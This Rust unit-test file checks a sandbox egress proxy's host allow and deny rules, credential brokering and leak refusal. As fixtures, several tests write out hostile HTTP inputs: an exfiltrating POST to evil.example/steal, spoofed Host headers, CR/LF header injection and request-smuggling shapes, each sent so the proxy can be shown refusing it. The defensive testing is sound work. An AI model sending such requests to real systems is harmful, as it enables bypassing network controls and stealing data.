//! Unit tests of the egress proxy: a loopback upstream the test starts, a proxy in front of it,
//! and raw HTTP through the proxy as a confined command would send it.

use super::*;
use std::sync::atomic::{AtomicUsize, Ordering};

fn p(s: &str) -> HostPattern {
    match HostPattern::parse(s) {
        Ok(p) => p,
        Err(e) => panic!("{e}"),
    }
}

/// An upstream on loopback that answers every connection with what it received (plain HTTP:
/// the request head as the body; otherwise an echo), and counts connections.
struct Upstream {
    port: u16,
    accepted: Arc<AtomicUsize>,
    /// Everything each connection sent first.
    got: Arc<Mutex<Vec<String>>>,
}

async fn upstream() -> Upstream {
    let l = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let port = l.local_addr().unwrap().port();
    let accepted = Arc::new(AtomicUsize::new(0));
    let count = accepted.clone();
    let got_all = Arc::new(Mutex::new(Vec::new()));
    let keep = got_all.clone();
    tokio::spawn(async move {
        while let Ok((mut s, _)) = l.accept().await {
            count.fetch_add(1, Ordering::SeqCst);
            let keep = keep.clone();
            tokio::spawn(async move {
                let mut buf = vec![0u8; 8192];
                let n = s.read(&mut buf).await.unwrap_or(0);
                let got = &buf[..n];
                keep.lock()
                    .unwrap()
                    .push(String::from_utf8_lossy(got).into_owned());
                if got.starts_with(b"GET ") || got.starts_with(b"HEAD ") {
                    let reply = format!("HTTP/1.1 200 OK\r\nContent-Length: {}\r\n\r\n", got.len());
                    let _ = s.write_all(reply.as_bytes()).await;
                    let _ = s.write_all(got).await;
                } else {
                    let _ = s.write_all(got).await;
                    let mut more = [0u8; 1024];
                    while let Ok(k) = s.read(&mut more).await {
                        if k == 0 || s.write_all(&more[..k]).await.is_err() {
                            break;
                        }
                    }
                }
            });
        }
    });
    Upstream {
        port,
        accepted,
        got: got_all,
    }
}

fn policy(up: &Upstream) -> EgressPolicy {
    let entry = format!("127.0.0.1:{}", up.port);
    EgressPolicy {
        allow: vec![p(&entry)],
        deny: vec![],
        limited: false,
        allow_private: vec![p(&entry)],
        timeout: Duration::from_secs(5),
        ask: None,
        credentials: Default::default(),
    }
}

async fn proxy(policy: EgressPolicy) -> Egress {
    let l = TcpListener::bind("127.0.0.1:0").await.unwrap();
    Egress::serve(l, policy).unwrap()
}

/// Send `raw` to the proxy and read until it closes.
async fn exchange(proxy: &Egress, raw: &[u8]) -> String {
    let mut s = TcpStream::connect(proxy.addr()).await.unwrap();
    s.write_all(raw).await.unwrap();
    let mut out = Vec::new();
    let _ = tokio::time::timeout(Duration::from_secs(10), s.read_to_end(&mut out)).await;
    String::from_utf8_lossy(&out).into_owned()
}

/// The proxy records a connection after its task ends; wait for `n` records.
async fn records(proxy: &Egress, n: usize) -> Vec<Connection> {
    for _ in 0..200 {
        let (c, _) = proxy.connections();
        if c.len() >= n {
            return c;
        }
        tokio::time::sleep(Duration::from_millis(10)).await;
    }
    proxy.connections().0
}

#[tokio::test]
async fn plain_http_is_forwarded_in_origin_form_with_the_judged_host() {
    let up = upstream().await;
    let px = proxy(policy(&up)).await;
    let req = format!(
        "GET http://127.0.0.1:{}/x?y=1 HTTP/1.1\r\nHost: evil.example\r\nProxy-Authorization: Basic Zm9v\r\nConnection: keep-alive\r\n\r\n",
        up.port
    );
    let out = exchange(&px, req.as_bytes()).await;
    assert!(out.starts_with("HTTP/1.1 200 OK"), "{out}");
    assert!(out.contains("GET /x?y=1 HTTP/1.1\r\n"), "{out}");
    assert!(
        out.contains(&format!("Host: 127.0.0.1:{}\r\n", up.port)),
        "{out}"
    );
    assert!(!out.contains("evil.example"), "{out}");
    assert!(!out.contains("Proxy-Authorization"), "{out}");
    assert!(out.contains("Connection: close\r\n"), "{out}");
    assert!(!out.contains("keep-alive"), "{out}");
    let c = records(&px, 1).await;
    assert_eq!(c.len(), 1);
    assert!(c[0].allowed && c[0].method == "GET" && c[0].port == up.port);
    assert!(c[0].received > 0 && c[0].sent > 0, "{c:?}");
}

#[tokio::test]
async fn connect_tunnels_to_an_allowed_destination() {
    let up = upstream().await;
    let px = proxy(policy(&up)).await;
    let mut s = TcpStream::connect(px.addr()).await.unwrap();
    let req = format!(
        "CONNECT 127.0.0.1:{p} HTTP/1.1\r\nHost: 127.0.0.1:{p}\r\n\r\n",
        p = up.port
    );
    s.write_all(req.as_bytes()).await.unwrap();
    let mut buf = vec![0u8; 39];
    s.read_exact(&mut buf).await.unwrap();
    assert_eq!(&buf[..], b"HTTP/1.1 200 Connection established\r\n\r\n");
    s.write_all(b"hello through the tunnel").await.unwrap();
    let mut echo = vec![0u8; 24];
    s.read_exact(&mut echo).await.unwrap();
    assert_eq!(&echo[..], b"hello through the tunnel");
    drop(s);
    let c = records(&px, 1).await;
    assert!(c[0].allowed && c[0].method == "CONNECT", "{c:?}");
    assert_eq!((c[0].sent, c[0].received), (24, 24));
}

#[tokio::test]
async fn a_destination_not_on_the_list_is_refused_before_anything_is_sent() {
    let up = upstream().await;
    let other = upstream().await;
    let px = proxy(policy(&up)).await;
    for req in [
        format!("GET http://127.0.0.1:{}/ HTTP/1.1\r\n\r\n", other.port),
        format!("CONNECT 127.0.0.1:{} HTTP/1.1\r\n\r\n", other.port),
        format!("CONNECT localhost:{} HTTP/1.1\r\n\r\n", up.port),
    ] {
        let out = exchange(&px, req.as_bytes()).await;
        assert!(out.starts_with("HTTP/1.1 403 Forbidden"), "{req}: {out}");
        assert!(out.contains("`[shell] network`"), "{out}");
    }
    assert_eq!(other.accepted.load(Ordering::SeqCst), 0);
    assert_eq!(up.accepted.load(Ordering::SeqCst), 0);
    let c = records(&px, 3).await;
    assert!(c.iter().all(|c| !c.allowed && c.reason.is_some()), "{c:?}");
}

#[tokio::test]
async fn private_addresses_need_allow_private_in_every_spelling() {
    let up = upstream().await;
    let mut pol = policy(&up);
    pol.allow_private.clear();
    pol.allow
        .push(p(&format!("[::ffff:127.0.0.1]:{}", up.port)));
    let px = proxy(pol).await;
    for target in [
        format!("127.0.0.1:{}", up.port),
        format!("[::ffff:127.0.0.1]:{}", up.port),
        format!("127.1:{}", up.port),
    ] {
        let out = exchange(&px, format!("CONNECT {target} HTTP/1.1\r\n\r\n").as_bytes()).await;
        assert!(out.starts_with("HTTP/1.1 403 Forbidden"), "{target}: {out}");
        assert!(
            out.contains("allow_private") || out.contains("shorthand"),
            "{target}: {out}"
        );
    }
    assert_eq!(up.accepted.load(Ordering::SeqCst), 0);
}

#[tokio::test]
async fn limited_mode_lets_only_safe_methods_through() {
    let up = upstream().await;
    let mut pol = policy(&up);
    pol.limited = true;
    let px = proxy(pol).await;
    let post = format!(
        "POST http://127.0.0.1:{}/upload HTTP/1.1\r\nContent-Length: 3\r\n\r\nabc",
        up.port
    );
    let out = exchange(&px, post.as_bytes()).await;
    assert!(out.starts_with("HTTP/1.1 403"), "{out}");
    assert!(out.contains("limited"), "{out}");
    assert_eq!(up.accepted.load(Ordering::SeqCst), 0);
    let get = format!("GET http://127.0.0.1:{}/ HTTP/1.1\r\n\r\n", up.port);
    assert!(exchange(&px, get.as_bytes())
        .await
        .starts_with("HTTP/1.1 200"));
}

#[tokio::test]
async fn what_is_not_a_proxy_request_is_answered_400() {
    let up = upstream().await;
    let px = proxy(policy(&up)).await;
    for raw in [
        "GET / HTTP/1.1\r\n\r\n".to_string(),
        "GET https://127.0.0.1/ HTTP/1.1\r\n\r\n".to_string(),
        format!("GET http://user@127.0.0.1:{}/ HTTP/1.1\r\n\r\n", up.port),
        "SSH-2.0-OpenSSH\r\n\r\n".to_string(),
        "GET http://a/ HTTP/1.1\r\nno colon here\r\n\r\n".to_string(),
        // Bare line feeds and carriage returns: an upstream splitting on them would see a
        // request line or a Host header the proxy never judged.
        format!(
            "GET http://127.0.0.1:{p}/\nHost: evil HTTP/1.1\r\n\r\n",
            p = up.port
        ),
        format!(
            "GET http://127.0.0.1:{p}/ HTTP/1.1\r\nX: a\nHost: evil\r\n\r\n",
            p = up.port
        ),
        format!(
            "GET http://127.0.0.1:{p}/ HTTP/1.1\r\nX: a\rHost: evil\r\n\r\n",
            p = up.port
        ),
        format!("CONNECT 127.0.0.1%0a:{} HTTP/1.1\r\n\r\n", up.port),
    ] {
        let out = exchange(&px, raw.as_bytes()).await;
        assert!(out.starts_with("HTTP/1.1 400"), "{raw:?}: {out}");
    }
    assert_eq!(up.accepted.load(Ordering::SeqCst), 0);
}

#[test]
fn deny_wins_and_a_pattern_without_a_port_means_the_web_ports() {
    let pol = EgressPolicy {
        allow: vec![p("*.example.org"), p("git.example.com:22")],
        deny: vec![p("secret.example.org")],
        ..EgressPolicy::default()
    };
    assert!(pol.judge("https", "cdn.example.org", 443).is_ok());
    assert!(pol.judge("http", "cdn.example.org", 80).is_ok());
    let why = pol.judge("https", "cdn.example.org", 8443).unwrap_err();
    assert!(why.contains("cdn.example.org:8443"), "{why}");
    let why = pol.judge("https", "secret.example.org", 443).unwrap_err();
    assert!(why.contains("deny rule `secret.example.org`"), "{why}");
    assert!(pol.judge("https", "git.example.com", 22).is_ok());
    assert!(pol.judge("https", "git.example.com", 443).is_err());
    assert!(pol.judge("https", "example.org", 443).is_err());
}

/// A destination no rule names is put to the asker: its yes lets the connection through (and
/// says who allowed it), its no refuses it; a deny rule and `limited` are never asked about.
#[tokio::test]
async fn an_unlisted_destination_is_asked_and_a_denied_one_is_not() {
    let up = upstream().await;
    let asked = Arc::new(Mutex::new(Vec::<(String, u16)>::new()));
    let mut pol = policy(&up);
    pol.allow.clear();
    pol.deny = vec![p("denied.example")];
    let answer = Arc::new(Mutex::new(Ok::<String, String>("approved once".into())));
    pol.ask = Some(Asker(Arc::new({
        let (asked, answer) = (asked.clone(), answer.clone());
        move |host, port| {
            asked.lock().unwrap().push((host, port));
            let a = answer.lock().unwrap().clone();
            Box::pin(async move { a })
        }
    })));
    let px = proxy(pol).await;
    let req = format!("GET http://127.0.0.1:{}/ HTTP/1.1\r\n\r\n", up.port);
    let out = exchange(&px, req.as_bytes()).await;
    assert!(out.starts_with("HTTP/1.1 200 OK"), "{out}");
    *answer.lock().unwrap() = Err("nobody can approve `net:127.0.0.1` here".into());
    let out = exchange(&px, req.as_bytes()).await;
    assert!(out.starts_with("HTTP/1.1 403"), "{out}");
    assert!(out.contains("nobody can approve"), "{out}");
    let out = exchange(&px, b"CONNECT denied.example:443 HTTP/1.1\r\n\r\n").await;
    assert!(out.starts_with("HTTP/1.1 403"), "{out}");
    assert_eq!(
        asked.lock().unwrap().len(),
        2,
        "{:?}",
        asked.lock().unwrap()
    );
    let c = records(&px, 3).await;
    assert_eq!(c.iter().filter(|c| c.allowed).count(), 1, "{c:?}");
    let ok = c.iter().find(|c| c.allowed).unwrap();
    assert_eq!(ok.allowed_by.as_deref(), Some("approved once"));
    assert_eq!(up.accepted.load(Ordering::SeqCst), 1);
    assert_eq!(net_target("a.example", 443), "a.example");
    assert_eq!(net_target("a.example", 22), "a.example:22");
}

/// A credential's placeholder in a plain-HTTP request to its host is replaced by the value; to
/// another host, or in a CONNECT, it is refused as a leak attempt before anything is sent.
#[tokio::test]
async fn credentials_are_brokered_for_their_host_and_refused_elsewhere() {
    use crate::sandbox::net::creds::{placeholder, Credential};
    let up = upstream().await;
    let mut pol = policy(&up);
    pol.allow.push(p("elsewhere.example:8080"));
    pol.credentials = Arc::from(vec![Credential {
        name: "api".into(),
        value: Ok("real-secret-value".into()),
        hosts: vec![p(&format!("127.0.0.1:{}", up.port))],
        header: None,
        env: None,
    }]);
    let px = proxy(pol).await;
    let ph = placeholder("api");
    let req = format!(
        "GET http://127.0.0.1:{}/ HTTP/1.1\r\nAuthorization: Bearer {ph}\r\n\r\n",
        up.port
    );
    let out = exchange(&px, req.as_bytes()).await;
    // The host got the value; its echo of it comes back as the placeholder.
    let got = up.got.lock().unwrap().join("\n");
    assert!(
        got.contains("Authorization: Bearer real-secret-value"),
        "{got}"
    );
    assert!(got.contains("Accept-Encoding: identity\r\n"), "{got}");
    assert!(
        out.contains(&format!("Authorization: Bearer {ph}")),
        "{out}"
    );
    assert!(!out.contains("real-secret-value"), "{out}");
    let req = format!("GET http://elsewhere.example:8080/ HTTP/1.1\r\nX-T: {ph}\r\n\r\n");
    let out = exchange(&px, req.as_bytes()).await;
    assert!(
        out.starts_with("HTTP/1.1 403") && out.contains("leak attempt"),
        "{out}"
    );
    let req = format!("CONNECT elsewhere.example:8080 HTTP/1.1\r\nX-T: {ph}\r\n\r\n");
    let out = exchange(&px, req.as_bytes()).await;
    assert!(
        out.starts_with("HTTP/1.1 403") && out.contains("leak attempt"),
        "{out}"
    );
    let c = records(&px, 3).await;
    assert_eq!(c.iter().filter(|c| c.leak).count(), 2, "{c:?}");
    assert_eq!(c.iter().find(|c| c.allowed).unwrap().credentials, ["api"]);
    assert_eq!(up.accepted.load(Ordering::SeqCst), 1);
}

/// An upstream that answers the first request at once and keeps reading for a second: all it
/// ever received.
async fn keep_reading_upstream() -> (u16, Arc<Mutex<Vec<u8>>>) {
    let l = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let port = l.local_addr().unwrap().port();
    let got = Arc::new(Mutex::new(Vec::new()));
    let keep = got.clone();
    tokio::spawn(async move {
        while let Ok((mut s, _)) = l.accept().await {
            let keep = keep.clone();
            tokio::spawn(async move {
                let mut buf = vec![0u8; 8192];
                let mut answered = false;
                let end = tokio::time::Instant::now() + Duration::from_millis(800);
                while let Ok(Ok(n)) = tokio::time::timeout_at(end, s.read(&mut buf)).await {
                    if n == 0 {
                        break;
                    }
                    keep.lock().unwrap().extend_from_slice(&buf[..n]);
                    if !answered {
                        answered = true;
                        let _ = s
                            .write_all(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok")
                            .await;
                    }
                }
            });
        }
    });
    (port, got)
}

/// Issue #49 item 9: a second request on the connection of an allowed one (pipelined, or sent
/// after the first answer on a kept-alive connection) never reaches the upstream, and is
/// recorded as refused with the host it named.
#[tokio::test]
async fn a_second_request_on_one_connection_is_recorded_and_never_forwarded() {
    let (port, got) = keep_reading_upstream().await;
    let entry = format!("127.0.0.1:{port}");
    let mut pol = policy(&Upstream {
        port,
        accepted: Default::default(),
        got: Default::default(),
    });
    pol.limited = true;
    pol.allow = vec![p(&entry)];
    let px = proxy(pol).await;
    let second = "POST http://evil.example/steal HTTP/1.1\r\nHost: evil.example\r\nContent-Length: 4\r\n\r\ndata";
    for (first, pause) in [
        // Pipelined: both at once, the second naming another host in its URL.
        (
            format!("GET http://{entry}/ HTTP/1.1\r\nHost: {entry}\r\n\r\n{second}"),
            false,
        ),
        // Kept alive: the second after the first answer, in origin form with another Host.
        (
            format!(
                "GET http://{entry}/ HTTP/1.1\r\nHost: {entry}\r\nConnection: keep-alive\r\n\r\n"
            ),
            true,
        ),
    ] {
        got.lock().unwrap().clear();
        let mut s = TcpStream::connect(px.addr()).await.unwrap();
        s.write_all(first.as_bytes()).await.unwrap();
        if pause {
            tokio::time::sleep(Duration::from_millis(100)).await;
            let _ = s
                .write_all(
                    b"POST /steal HTTP/1.1\r\nHost: evil.example\r\nContent-Length: 4\r\n\r\ndata",
                )
                .await;
        }
        let mut out = Vec::new();
        let _ = tokio::time::timeout(Duration::from_secs(10), s.read_to_end(&mut out)).await;
        let out = String::from_utf8_lossy(&out);
        assert!(out.starts_with("HTTP/1.1 200 OK"), "{out}");
        let seen = String::from_utf8_lossy(&got.lock().unwrap()).into_owned();
        assert!(seen.starts_with("GET / HTTP/1.1\r\n"), "{seen}");
        assert!(
            !seen.contains("evil.example") && !seen.contains("POST"),
            "the upstream got: {seen}"
        );
    }
    let c = records(&px, 4).await;
    assert_eq!(c.len(), 4, "{c:?}");
    let refused: Vec<_> = c.iter().filter(|c| !c.allowed).collect();
    assert_eq!(refused.len(), 2, "{c:?}");
    for r in refused {
        assert_eq!(
            (r.host.as_str(), r.method.as_str()),
            ("evil.example", "POST"),
            "{r:?}"
        );
        assert!(
            r.reason
                .as_deref()
                .unwrap()
                .contains("one request per connection"),
            "{r:?}"
        );
    }
}

/// Request smuggling shapes are refused before anything is sent, and recorded.
#[tokio::test]
async fn an_ambiguous_request_body_is_refused_before_anything_is_sent() {
    let up = upstream().await;
    let px = proxy(policy(&up)).await;
    for extra in [
        "Content-Length: 4\r\nContent-Length: 40",
        "Transfer-Encoding: chunked\r\nContent-Length: 4",
        "Transfer-Encoding: identity, chunked",
    ] {
        let req = format!(
            "POST http://127.0.0.1:{}/ HTTP/1.1\r\n{extra}\r\n\r\n0\r\n\r\nGET http://127.0.0.1:{}/admin HTTP/1.1\r\n\r\n",
            up.port, up.port
        );
        let out = exchange(&px, req.as_bytes()).await;
        assert!(
            out.starts_with("HTTP/1.1 403") && out.contains("smuggling"),
            "{out}"
        );
    }
    let req = format!(
        "GET http://127.0.0.1:{}/ HTTP/1.1\r\nX-A: 1\r\n Content-Length: 5\r\n\r\n",
        up.port
    );
    let out = exchange(&px, req.as_bytes()).await;
    assert!(
        out.starts_with("HTTP/1.1 400") && out.contains("folding"),
        "{out}"
    );
    assert_eq!(up.accepted.load(Ordering::SeqCst), 0);
    let c = records(&px, 3).await;
    assert!(c.iter().all(|c| !c.allowed), "{c:?}");
}

/// A CONNECT to a host a credential is bound to is refused: the proxy cannot scrub a TLS
/// tunnel's answers.
#[tokio::test]
async fn connect_to_a_host_a_credential_is_bound_to_is_refused() {
    use crate::sandbox::net::creds::Credential;
    let up = upstream().await;
    let mut pol = policy(&up);
    pol.credentials = Arc::from(vec![Credential {
        name: "api".into(),
        value: Ok("real-secret-value".into()),
        hosts: vec![p(&format!("https://127.0.0.1:{}", up.port))],
        header: None,
        env: None,
    }]);
    let px = proxy(pol).await;
    let out = exchange(
        &px,
        format!("CONNECT 127.0.0.1:{} HTTP/1.1\r\n\r\n", up.port).as_bytes(),
    )
    .await;
    assert!(
        out.starts_with("HTTP/1.1 403") && out.contains("TLS tunnel"),
        "{out}"
    );
    assert_eq!(up.accepted.load(Ordering::SeqCst), 0);
}
